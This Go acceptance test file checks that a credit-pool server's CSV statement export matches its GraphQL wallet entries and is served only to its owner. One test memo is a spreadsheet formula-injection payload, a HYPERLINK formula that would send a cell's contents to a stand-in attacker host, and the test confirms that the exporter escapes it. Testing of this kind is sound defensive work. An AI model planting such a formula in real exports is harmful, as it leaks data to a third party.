package acceptance

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/tidwall/gjson"

	"github.com/resourcepool/resourcepool/server/money"
	"github.com/resourcepool/resourcepool/server/programtest"
	"github.com/resourcepool/resourcepool/server/upstreamtest"
)

const grantWithMemo = `mutation($u: ID!, $a: Credits!, $m: String!) { grantCredits(userId: $u, amount: $a, memo: $m) { seq } }`

// statement is a statement as a program reads it.
func statement(c *client, query string) [][]string {
	c.T.Helper()
	resp, body := c.Fetch("GET", "/statement.csv"+query)
	require.Equal(c.T, http.StatusOK, resp.StatusCode, body)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(c.T, err)
	require.Equal(c.T, []string{"time", "transaction", "kind", "amount", "balance", "memo", "request", "model"}, rows[0])
	return rows[1:]
}

// entries is the same by GraphQL, a few lines at a time, newest first.
func entries(c *client) []gjson.Result {
	c.T.Helper()
	var all []gjson.Result
	for after := any(nil); ; {
		r := c.Must(`query($a: Cursor) { viewer { wallet { entries(first: 2, after: $a) { totalCount pageInfo { hasNextPage endCursor }
			edges { node { createdAt kind amount balanceAfter memo transaction { seq usageLog { id model } } } } } } } }`, vars{"a": after}).Get("viewer.wallet.entries")
		for _, e := range r.Get("edges").Array() {
			all = append(all, e.Get("node"))
		}
		if !r.Get("pageInfo.hasNextPage").Bool() {
			require.Len(c.T, all, int(r.Get("totalCount").Int()))
			return all
		}
		after = r.Get("pageInfo.endCursor").String()
	}
}

func amount(t *testing.T, text string) money.Credits {
	t.Helper()
	a, err := money.Parse[money.Credits](text)
	require.NoError(t, err)
	return a
}

func TestAPersonTakesTheirStatementHome(t *testing.T) {
	u := upstreamtest.New(t)
	p := programtest.Serve(t, "POOL_PROVIDER_URLS="+u.ProviderURLs())
	admin := p.Admin()
	admin.GPT4()
	admin.Platform(u, "sk-admin-0123456789abcdef", "5000", false)
	tom, bob := p.Person("tom"), p.Person("bob")
	memos := []string{"给汤姆的积分", `=HYPERLINK("http://evil.example/?"&A1,"prize")`, "+1, \"quoted\" and more", "-0.1", "@SUM(1)", "plain"}
	for i, memo := range memos {
		admin.Must(grantWithMemo, vars{"u": tom.ID, "a": money.Format(money.Credits(i+1) * money.One), "m": memo})
	}
	u.NextUsage("sk-admin-0123456789abcdef", 2000, 1000)
	tom.Must(programtest.Complete, programtest.Ask("gpt-4", nil))
	bob.Deposit(u, "sk-bob-0123456789abcdef", "2000")

	rows := statement(tom, "")
	require.Len(t, rows, len(memos)+1)
	for i, memo := range memos {
		want := memo
		if strings.ContainsAny(memo[:1], "=+-@") {
			want = "'" + memo
		}
		require.Equal(t, want, rows[i][5])
		require.Equal(t, "GRANT", rows[i][2])
		require.Empty(t, rows[i][6]+rows[i][7])
	}
	charge := rows[len(memos)]
	require.Equal(t, []string{"USAGE", "-10", "11", "gpt-4"}, []string{charge[2], charge[3], charge[4], charge[7]})

	// It adds up, and GraphQL says the same.
	balance := money.Credits(0)
	entries := entries(tom)
	slices.Reverse(entries)
	require.Len(t, entries, len(rows))
	for i, row := range rows {
		balance += amount(t, row[3])
		require.Equal(t, balance, amount(t, row[4]))
		e := entries[i]
		require.Equal(t, []string{e.Get("transaction.seq").String(), e.Get("kind").String(), e.Get("amount").String(), e.Get("balanceAfter").String()}, row[1:5])
		require.Equal(t, e.Get("transaction.usageLog.id").String(), row[6])
		require.Equal(t, e.Get("transaction.usageLog.model").String(), row[7])
		at, err := time.Parse(time.RFC3339, row[0])
		require.NoError(t, err)
		require.WithinDuration(t, e.Get("createdAt").Time(), at, 0)
	}
	require.Equal(t, tom.Available(), money.Format(balance))

	// A time cuts it in two, and nobody else is in it.
	cut := rows[3][0]
	require.Equal(t, rows[:3], statement(tom, "?to="+cut))
	require.Equal(t, rows[3:], statement(tom, "?from="+cut))
	require.Empty(t, statement(tom, "?to=2020-01-01"))
	require.Len(t, statement(bob, ""), 1)
	require.Empty(t, statement(admin, ""))
}

func TestTheStatementIsAFileForItsOwnerAlone(t *testing.T) {
	p := programtest.Serve(t)
	admin, tom := p.Admin(), p.Person("tom")
	admin.Grant(tom, "5")
	resp, body := tom.Fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8; header=present", resp.Header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="statement-2026-01-01-to-2099-01-01.csv"`, resp.Header.Get("Content-Disposition"))
	require.Equal(t, "no-store", resp.Header.Get("Cache-Control"))
	require.True(t, strings.HasSuffix(body, "\r\n"))
	head, nothing := tom.Fetch("HEAD", "/statement.csv")
	require.Equal(t, http.StatusOK, head.StatusCode)
	require.Empty(t, nothing)

	token := *tom
	token.HTTP, token.Token = &http.Client{}, tom.Must(`mutation { createApiToken(input: {name: "books", spendLimit: "1"}) { secret } }`, nil).Get("createApiToken.secret").String()
	_, same := token.Fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
	require.Equal(t, body, same)

	refused := func(c *client, path string, status int, code, field string) {
		t.Helper()
		resp, body := c.Fetch("GET", path)
		require.Equal(t, status, resp.StatusCode, body)
		require.Equal(t, code, gjson.Get(body, "errors.0.extensions.code").String(), body)
		require.Equal(t, field, gjson.Get(body, "errors.0.extensions.field").String(), body)
		require.Empty(t, resp.Header.Get("Content-Disposition"))
	}
	refused(p.Anonymous(), "/statement.csv", http.StatusUnauthorized, "UNAUTHENTICATED", "")
	refused(tom, "/statement.csv?from=yesterday", http.StatusBadRequest, "BAD_USER_INPUT", "from")
	refused(tom, "/statement.csv?to=31.1.2026", http.StatusBadRequest, "BAD_USER_INPUT", "to")
	refused(tom, "/statement.csv?user="+tom.ID, http.StatusBadRequest, "BAD_USER_INPUT", "user")
	token.Token = "rp_of_nobody"
	refused(&token, "/statement.csv", http.StatusUnauthorized, "UNAUTHENTICATED", "")
}
